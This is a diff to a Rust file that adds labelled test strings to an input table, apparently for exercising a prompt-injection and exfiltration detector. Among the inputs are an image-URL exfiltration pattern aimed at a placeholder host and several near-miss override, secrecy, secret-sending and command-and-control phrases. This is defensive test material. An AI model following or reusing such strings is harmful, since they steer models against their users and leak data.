@@ -53,6 +53,15 @@ const INPUTS: &[(&str, &str)] = &[
     ("zero width", "i\u{200b}g\u{200b}n\u{200b}"),
     ("assignments", "a_key=\"aaaaaaaaaaaaaaaaaaaaaaaa\" "),
     ("images", "![x](https://a.example/p?q={data}) "),
+    ("emphasis", "**ignore** _the_ *rules* "),
+    ("emoji", "\u{1f469}\u{200d}\u{1f680} \u{1f600} "),
+    ("long words", "internationalizationofeverythinginternationalization "),
+    ("russian", "\u{42d}\u{442}\u{43e}\u{442} \u{43f}\u{43e}\u{440}\u{44f}\u{434}\u{43e}\u{43a} "),
+    ("chinese", "\u{4eca}\u{5929}\u{6211}\u{4eec}\u{5728}\u{6587}\u{6863}\u{91cc}"),
+    ("joined words", "do_not_tell_the_user_"),
+    ("nearly an order", "ignore the user and tell previous "),
+    ("nearly a secret", "send secret to it. "),
+    ("nearly remote", "pull tasks from c2 beacon to connect "),
 ];
 
 fn main() {
